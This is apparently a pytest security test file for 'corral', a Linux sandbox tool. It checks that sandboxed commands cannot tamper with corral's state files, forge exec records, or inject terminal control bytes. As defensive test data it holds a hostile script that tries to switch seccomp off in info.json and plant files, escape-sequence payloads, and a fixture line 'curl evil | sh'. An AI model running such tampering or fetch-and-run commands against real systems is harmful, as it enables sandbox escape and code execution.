"""corral's own state and scratch under attack from inside (issue 14, class 1), and
`corral exec` giving the command no more than `corral run` does (issue 9, class 3).

The state directory (info.json, events) and the scratch directories (overlay upper
layers of every running sandbox) must be out of every sandbox's reach, whatever the
working directory and --rw say; `corral exec` must not trust anything a sandbox could
have written; `ps`/`logs` must not print raw terminal control bytes a sandbox chose.
Run as the unprivileged user."""

import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

pytestmark = pytest.mark.namespaces

PY = sys.executable
DEADLINE = 20.0
STATUS = "grep -E '^(NoNewPrivs|Seccomp|CapEff|CapBnd|CapPrm|CapInh|CapAmb):' /proc/self/status"

# What a hostile command tries against every corral directory it is told about:
# read and rewrite info.json (seccomp off, nested user namespaces), write escape
# bytes into events, rewrite overlays.json, plant files in upper layers, and move
# a directory on the way so that corral would later read one of its own.
ATTACK = textwrap.dedent(r"""
    import json, os, sys
    done = []
    def attempt(what, fn, *args):
        try:
            fn(*args)
            done.append(what)
        except OSError:
            pass
    def rewrite(path):
        with open(path) as f:
            info = json.load(f)
        info.setdefault("spec", {}).setdefault("harden", {})["seccomp"] = "off"
        info["spec"]["harden"]["allow_nested"] = True
        with open(path, "w") as f:
            json.dump(info, f)
    def append(path, data):
        with open(path, "a") as f:
            f.write(data)
    def plant(path):
        with open(path, "w") as f:
            f.write("planted")
    for top in sys.argv[2:]:
        for dirpath, dirs, files in os.walk(top):
            done.append("listed " + dirpath)
            for name in files:
                path = os.path.join(dirpath, name)
                if name == "info.json":
                    attempt("rewrote " + path, rewrite, path)
                elif name == "events.jsonl":
                    attempt("wrote " + path, append, path, '{"type":"x","argv":"\x1b]0;pwned\x07"}\n')
                elif name == "overlays.json":
                    attempt("rewrote " + path, plant, path)
            if "/upper/" in dirpath + "/" and dirpath.rsplit("/", 1)[-1].isdigit():
                attempt("planted in " + dirpath, plant, os.path.join(dirpath, "planted"))
    # Move a directory between the working directory and corral's, then make one.
    cwd = sys.argv[1]
    for top in sys.argv[2:]:
        path = os.path.dirname(top)
        while path.startswith(cwd + "/"):
            attempt("moved " + path, os.rename, path, path + ".moved")
            path = os.path.dirname(path)
        attempt("made " + top, os.makedirs, top + "/deadbeef/x")
    print(json.dumps(done))
""")


def corral(env, *args, **kw):
    kw.setdefault("capture_output", True)
    kw.setdefault("text", True)
    kw.setdefault("timeout", 60)
    return subprocess.run([PY, "-m", "corral", *args], env=env, **kw)


def ps(env):
    out = corral(env, "ps", "--json")
    assert out.returncode == 0, out.stderr
    return json.loads(out.stdout)


def wait_listed(env, proc):
    deadline = time.monotonic() + DEADLINE
    while time.monotonic() < deadline:
        rows = [r for r in ps(env) if r["supervisor_pid"] == proc.pid]
        if rows:
            return rows[0]
        assert proc.poll() is None, f"the sandbox ended early: {proc.returncode}"
        time.sleep(0.05)
    raise AssertionError("the sandbox never appeared in `corral ps`")


def private_runtime_env(tmp_path):
    """Our environment with a private XDG_RUNTIME_DIR: corral's state for this test only."""
    xdg = tmp_path / "xdg"
    xdg.mkdir(mode=0o700)
    return dict(os.environ, XDG_RUNTIME_DIR=str(xdg))


def start_victim(env, cwd, stop_all, *options):
    """A running sandbox with something in its upper layers."""
    proc = subprocess.Popen(
        [PY, "-m", "corral", "run", "--net", "none", *options, "--", "sh", "-c",
         "echo x > $HOME/.corral-victim-file; echo ready; exec sleep 60"],
        env=env, cwd=cwd, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True)
    stop_all.append(proc)
    assert proc.stdout.readline() == "ready\n"
    return proc, wait_listed(env, proc)


def layouts(tmp_path):
    """(name, env, attacker's cwd, extra options, corral's directories to attack)."""
    uid = os.getuid()
    xdg = tmp_path / "xdg" / "run"
    xdg.mkdir(parents=True, mode=0o700)
    tmpdir = tmp_path / "xdg" / "tmp"
    tmpdir.mkdir(mode=0o700)
    base = dict(os.environ)
    base.pop("XDG_RUNTIME_DIR", None)
    base.pop("TMPDIR", None)
    in_xdg = dict(base, XDG_RUNTIME_DIR=str(xdg), TMPDIR=str(tmpdir))
    dirs_xdg = [str(xdg / "corral"), str(tmpdir / f"corral-{uid}")]
    return {
        # /tmp as the working directory: bound writable, /tmp/corral-<uid> in it.
        "cwd-tmp": (base, "/tmp", [], [f"/tmp/corral-{uid}"]),
        # The parent of $XDG_RUNTIME_DIR (and of the scratch root) as the working directory.
        "cwd-xdg-parent": (in_xdg, str(tmp_path / "xdg"), [], dirs_xdg),
        # --rw of the state directory's parent.
        "rw-state-parent": (in_xdg, str(tmp_path), ["--rw", str(xdg), "--rw", str(tmpdir)],
                            dirs_xdg),
    }


@pytest.mark.parametrize("layout", ["cwd-tmp", "cwd-xdg-parent", "rw-state-parent"])
def test_sandbox_cannot_tamper_with_state_scratch_or_exec_spec(tmp_path, stop_all, layout):
    env, cwd, options, targets = layouts(tmp_path)[layout]
    home = tmp_path / "home"
    home.mkdir()
    env = dict(env, HOME=str(home))
    work = tmp_path / "work"
    work.mkdir()
    victim, row = start_victim(env, str(work), stop_all)

    out = corral(env, "run", "--net", "none", *options, "--", PY, "-c", ATTACK, cwd, *targets,
                 cwd=cwd)
    assert out.returncode == 0, out.stderr
    done = json.loads(out.stdout)
    assert [d for d in done if not d.startswith("listed ")] == []
    assert set(done) <= {f"listed {t}" for t in targets}, done[:20]  # empty, if there at all

    # Nothing changed outside: the victim is listed as before, its record intact, and
    # `corral exec` runs with the seccomp filter and without nested user namespaces.
    (again,) = [r for r in ps(env) if r["id"] == row["id"]]
    assert again["argv"] == row["argv"]
    probe = corral(env, "exec", row["id"], "--", "sh", "-c",
                   STATUS + "; unshare -U true 2>/dev/null && echo NESTED; "
                   "cat $HOME/.corral-victim-file; ls -a $HOME")
    assert probe.returncode == 0, probe.stderr
    assert "Seccomp:\t2" in probe.stdout and "NoNewPrivs:\t1" in probe.stdout
    assert "NESTED" not in probe.stdout
    assert "planted" not in probe.stdout
    logs = corral(env, "logs", row["id"])
    assert "\x1b" not in logs.stdout and "pwned" not in logs.stdout
    assert corral(env, "stop", row["id"]).returncode == 0
    assert victim.wait(timeout=DEADLINE) == 128 + signal.SIGTERM


def test_forged_state_entry_is_not_trusted_by_exec_ps_or_stop(tmp_path, stop_all):
    """Even with write access to the state directory (here: the test's own), a forged
    info.json only names a supervisor; what exec uses comes from that supervisor's
    sealed record, and a process in another user namespace is never taken for one."""
    from corral import state

    env = private_runtime_env(tmp_path)
    xdg = Path(env["XDG_RUNTIME_DIR"])
    victim, row = start_victim(env, str(tmp_path), stop_all)
    info_path = xdg / "corral" / row["id"] / "info.json"
    pointer = json.loads(info_path.read_text())
    assert set(pointer) == {"id", "supervisor_pid", "supervisor_start", "record_fd"}

    # A process inside a sandbox that holds a sealed memfd of its own.
    fake_record = json.dumps({"id": "0badf00d", "supervisor_pid": 0, "argv": ["\x1b[2J"]})
    holder = subprocess.Popen(
        [PY, "-m", "corral", "run", "--net", "none", "--", PY, "-c", textwrap.dedent(f"""
            import fcntl, os, sys
            fd = os.memfd_create("corral-sandbox", os.MFD_ALLOW_SEALING)
            os.write(fd, {fake_record!r}.encode())
            fcntl.fcntl(fd, fcntl.F_ADD_SEALS, 15)
            print(fd, flush=True)
            sys.stdin.read()
        """)], env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    stop_all.append(holder)
    fd = int(holder.stdout.readline())
    inner = [p for p in _children(holder.pid) if _cmdline(p).startswith(PY + "\0-c")]
    assert inner, "the sandboxed holder process was not found"
    pid = inner[0]
    forged = xdg / "corral" / "0badf00d"
    forged.mkdir(mode=0o700)
    (forged / "info.json").write_text(json.dumps({
        "id": "0badf00d", "supervisor_pid": pid, "supervisor_start": state.proc_start_time(pid),
        "record_fd": fd}))
    (forged / "events.jsonl").write_text("")
    assert state.supervisor_record(pid, state.proc_start_time(pid), fd) is None
    assert "0badf00d" not in [r["id"] for r in ps(env)]
    assert corral(env, "exec", "0badf00d", "--", "true").returncode == 2

    # The real entry's info.json rewritten: the record still comes from the supervisor.
    info_path.write_text(json.dumps(dict(pointer, spec={"harden": {"seccomp": "off"}})))
    probe = corral(env, "exec", row["id"], "--", "sh", "-c", STATUS)
    assert "Seccomp:\t2" in probe.stdout, probe
    holder.stdin.close()
    holder.wait(timeout=DEADLINE)


def _children(pid):
    """Every descendant of ``pid``."""
    out, todo = [], [pid]
    while todo:
        p = todo.pop()
        try:
            with open(f"/proc/{p}/task/{p}/children") as f:
                kids = [int(k) for k in f.read().split()]
        except OSError:
            continue
        out += kids
        todo += kids
    return out


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline") as f:
            return f.read()
    except OSError:
        return ""


# ------------------------------------------------------------------ escaping


def test_ps_and_logs_escape_terminal_control_bytes(tmp_path, stop_all):
    env = private_runtime_env(tmp_path)
    hostile = "\x1b]0;pwned\x07\x1b[2J\nFAKE-ROW\r\x9b31m\u202e"
    proc = subprocess.Popen([PY, "-m", "corral", "run", "--net", "none", "--", "sh", "-c",
                             "echo ready; exec sleep 30", hostile],
                            env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True)
    stop_all.append(proc)
    assert proc.stdout.readline() == "ready\n"
    row = wait_listed(env, proc)
    for args in (("ps",), ("logs", row["id"]), ("logs", "--json", row["id"])):
        out = corral(env, *args)
        assert out.returncode == 0, out.stderr
        text = out.stdout
        assert not [c for c in text if c != "\n" and not c.isprintable()], (args, text)
        assert "FAKE-ROW" not in [line.strip() for line in text.splitlines()], (args, text)
    ps_lines = corral(env, "ps").stdout.splitlines()
    assert len(ps_lines) == 2
    from corral import runtime_cli

    line = runtime_cli.format_event({"type": "dns", "qname": "a\x1b[31m\nb.test", "qtype": "A",
                                     "answers": [{"data": "\x07"}], "ts": 0})
    assert "\x1b" not in line and "\n" not in line and "\x07" not in line


# ------------------------------------------------------------------ other users


def test_shared_dir_planted_by_another_user_falls_back_and_says_so(tmp_path):
    """Another user (here: a symlink someone planted, which corral treats the same)
    owning $TMPDIR/corral-<uid> does not stop corral: it uses ~/.local/state."""
    tmpdir = tmp_path / "tmp"
    tmpdir.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmpdir / f"corral-{os.getuid()}").symlink_to(elsewhere)
    state_home = tmp_path / "state"
    env = dict(os.environ, TMPDIR=str(tmpdir), XDG_STATE_HOME=str(state_home))
    out = corral(env, "run", "--net", "none", "--", "sh", "-c", "echo ok", cwd=str(tmp_path))
    assert (out.returncode, out.stdout) == (0, "ok\n"), out.stderr
    assert "is not yours" in out.stderr and str(state_home / "corral") in out.stderr
    assert list(elsewhere.iterdir()) == []
    assert os.stat(state_home / "corral" / "scratch").st_mode & 0o777 == 0o700


def test_state_place_falls_back_when_tmp_dir_is_not_ours(tmp_path, monkeypatch):
    from corral import state

    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setattr(state, "SHARED", str(tmp_path))
    (tmp_path / f"corral-{os.getuid()}").symlink_to("/")
    place = state.state_place()
    assert place.path == str(tmp_path / "state" / "corral" / "run")
    assert place.note.startswith(f"{tmp_path}/corral-{os.getuid()} is not yours")
    fd = place.open()
    os.close(fd)
    assert os.stat(place.path).st_mode & 0o777 == 0o700


def test_state_dir_component_that_is_a_symlink_is_refused(tmp_path):
    from corral import state
    from corral.errors import SandboxError

    (tmp_path / "real").mkdir(mode=0o700)
    (tmp_path / "corral").symlink_to(tmp_path / "real")
    with pytest.raises(SandboxError, match="symlink"):
        state.state_place({"XDG_RUNTIME_DIR": str(tmp_path)}).open()


def test_stop_on_another_users_sandbox_is_a_one_line_error():
    from corral import state
    from corral.errors import SandboxError

    if os.getuid() == 0:
        pytest.skip("root may signal every process; the test needs an unprivileged user")
    me = os.getpid()
    entry = state.Running(id="0000beef", path="/nonexistent", info={
        "supervisor_pid": me, "supervisor_start": state.proc_start_time(me),
        "d_pid": 1, "d_start": state.proc_start_time(1)})
    with pytest.raises(SandboxError) as caught:
        state.stop(entry, grace=0.1, wait=0.1)
    assert "belongs to another user" in str(caught.value) and "\n" not in str(caught.value)


# ------------------------------------------------------------------ exec = run


def test_exec_does_not_pass_the_callers_extra_fds(tmp_path, stop_all):
    env = private_runtime_env(tmp_path)
    proc, row = start_victim(env, str(tmp_path), stop_all)
    target = tmp_path / "host-file"
    target.write_text("")
    out = subprocess.run(
        ["sh", "-c", f'exec 5>>"{target}" 7<"{target}"; exec "$@"', "sh",
         PY, "-m", "corral", "exec", row["id"], "--", "sh", "-c",
         "echo X >&5; ls /proc/self/fd; ls -l /proc/self/fd >&2"],
        env=env, capture_output=True, text=True, timeout=60)
    assert target.read_text() == ""
    assert out.stdout.split() == ["0", "1", "2", "3"], out  # 3: ls's own directory fd


def test_exec_stdin_file_cannot_be_reopened_for_writing(tmp_path, stop_all):
    """`corral exec ID -- CMD < file`: the command reads the file through a pipe; reopening
    /proc/self/fd/0 for writing does not reach the host file (as for `corral run`)."""
    env = private_runtime_env(tmp_path)
    proc, row = start_victim(env, str(tmp_path), stop_all)
    target = tmp_path / "host-file"
    target.write_text("secret input\n")
    attack = ("import sys\nprint(sys.stdin.read(), end='')\n"
              "try:\n    open('/proc/self/fd/0', 'w').write('pwned')\n"
              "except OSError as e:\n    print('refused', e.errno)\n")
    with open(target) as stdin:
        out = subprocess.run([PY, "-m", "corral", "exec", row["id"], "--", "python3", "-c", attack],
                             env=env, stdin=stdin, capture_output=True, text=True, timeout=60)
    assert target.read_text() == "secret input\n", out
    assert out.stdout.startswith("secret input\n"), out


def test_exec_has_the_namespaces_restrictions_and_limits_of_the_command(tmp_path, stop_all):
    env = private_runtime_env(tmp_path)
    probe = ("for n in user mnt pid uts ipc net cgroup; do readlink /proc/self/ns/$n; done; "
             + STATUS + "; ulimit -n; "
             "python3 -c 'import resource; print(resource.getrlimit(resource.RLIMIT_NPROC)[0])'; "
             "unshare -U true 2>/dev/null && echo NESTED || echo no-userns; "
             "python3 -c 'import socket; socket.socket(socket.AF_PACKET)' 2>/dev/null "
             "&& echo RAW || echo no-raw")
    proc = subprocess.Popen(
        [PY, "-m", "corral", "run", "--net", "none", "--nofile", "77", "--pids", "99", "--",
         "sh", "-c", f"({probe}) > /tmp/ours; echo ready; exec sleep 60"],
        env=env, cwd=str(tmp_path), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True)
    stop_all.append(proc)
    assert proc.stdout.readline() == "ready\n"
    row = wait_listed(env, proc)
    ours = corral(env, "exec", row["id"], "--", "cat", "/tmp/ours").stdout
    theirs = corral(env, "exec", row["id"], "--", "sh", "-c", probe)
    assert theirs.returncode == 0, theirs.stderr
    assert theirs.stdout == ours
    lines = ours.splitlines()
    assert "Seccomp:\t2" in lines and "NoNewPrivs:\t1" in lines and "CapEff:\t0000000000000000" in lines
    assert lines[-4] == "77" and lines[-3] not in ("-1", str(resource.RLIM_INFINITY)) and lines[-2:] == ["no-userns", "no-raw"]
    host_ns = [os.readlink(f"/proc/self/ns/{n}") for n in ("user", "mnt", "pid")]
    assert not set(host_ns) & set(lines[:3])


# ------------------------------------------------------------------ the change report


def test_change_report_comes_from_the_supervisor_not_overlays_json(tmp_path):
    """A manifest that says nothing was overlaid (what a sandbox reaching its scratch
    would write) does not hide a change: the supervisor's plan names the upper layers."""
    from corral.fs.changes import collect_changes

    host = tmp_path / "host"
    host.mkdir()
    scratch = tmp_path / "scratch"
    (scratch / "upper" / "0").mkdir(parents=True)
    (scratch / "upper" / "0" / ".bashrc").write_text("curl evil | sh\n")
    (scratch / "overlays.json").write_text(json.dumps({"overlays": {}, "fallbacks": {}}))
    planned = [(str(scratch / "upper" / "0"), str(host))]
    changes = collect_changes(scratch, overlays=planned)
    assert [(c.path, c.change) for c in changes.changes] == [(str(host / ".bashrc"), "created")]


def test_report_of_a_sandbox_in_tmp_lists_its_changes_after_a_rewrite_attempt(tmp_path):
    import tempfile

    home = Path(tempfile.mkdtemp(dir="/var/tmp"))  # overlaid (/tmp, the cwd, is bound writable)
    report = tmp_path / "report.json"
    env = dict(os.environ, HOME=str(home))
    env.pop("XDG_RUNTIME_DIR", None)
    script = ("echo evil >> $HOME/.profile; "
              "for f in /tmp/corral-*/*/overlays.json; do echo '{}' > $f 2>/dev/null; done; true")
    out = corral(env, "run", "--net", "none", "--report", str(report), "--", "sh", "-c", script,
                 cwd="/tmp")
    assert out.returncode == 0, out.stderr
    changes = {c["path"]: c["change"] for c in json.loads(report.read_text())["files"]["changes"]}
    shutil.rmtree(home)
    assert changes.get(str(home / ".profile")) == "created", changes


# ------------------------------------------------------------------ the plan, pure


def _plan(cwd, paths=(), protect=("/tmp/corral-1000", "/run/user/1000/corral"), mode="default"):
    from corral.fs.plan import FsSpec, Stat, build_plan
    from test_fs_plan import MOUNTINFO, host

    fs = host(**{"/run/user/1000/corral/ab12cd34": Stat("dir"), "/data/x/y/state": Stat("dir"),
                 "/home/u/proj/.local/state/corral": Stat("dir")})
    spec = FsSpec(mode=mode, cwd=cwd, home="/home/u", paths=paths,
                  scratch="/tmp/corral-1000/sb-1", protect=protect, runtime_dir="/nonexistent")
    return build_plan(spec, MOUNTINFO, fs).to_json()


def _index(ops, op, path):
    return [i for i, o in enumerate(ops) if o["op"] == op and o["path"] == path]


@pytest.mark.parametrize("mode", ["default", "readonly", "hermetic"])
def test_plan_masks_state_and_scratch_roots_after_every_bind_that_shows_them(mode):
    ops = _plan("/tmp", paths=[("rw", "/run/user/1000")], mode=mode)
    for top, bind in (("/tmp/corral-1000", "/tmp"), ("/run/user/1000/corral", "/run/user/1000")):
        (mask,) = _index(ops, "tmpfs", top)
        assert ops[mask]["ro"] and not ops[mask]["create"]
        assert _index(ops, "bind", bind)[-1] < mask, (top, ops)


def test_plan_pins_the_directories_between_a_writable_bind_and_a_protected_root():
    ops = _plan("/data", protect=("/data/x/y/state",))
    pins = [o["path"] for o in ops if o["op"] == "bind" and o["path"] in ("/data/x", "/data/x/y")]
    assert pins == ["/data/x", "/data/x/y"]
    assert all(not o["ro"] for o in ops if o["op"] == "bind" and o["path"] in pins)
    assert _index(ops, "bind", "/data/x/y")[0] < _index(ops, "tmpfs", "/data/x/y/state")[0]
    # A read-only view of the same place needs no pins (nothing can be renamed there).
    ops = _plan("/home/u/proj", paths=[("ro", "/data")], protect=("/data/x/y/state",))
    assert not _index(ops, "bind", "/data/x")


@pytest.mark.parametrize("option", ["rw", "ro", "overlay"])
def test_plan_refuses_a_path_inside_corrals_own_directories(option):
    from corral.errors import ConfigError

    with pytest.raises(ConfigError, match="corral's own state and scratch"):
        _plan("/home/u/proj", paths=[(option, "/run/user/1000/corral/ab12cd34")])
    with pytest.raises(ConfigError, match="corral's own state and scratch"):
        _plan("/run/user/1000/corral/ab12cd34")
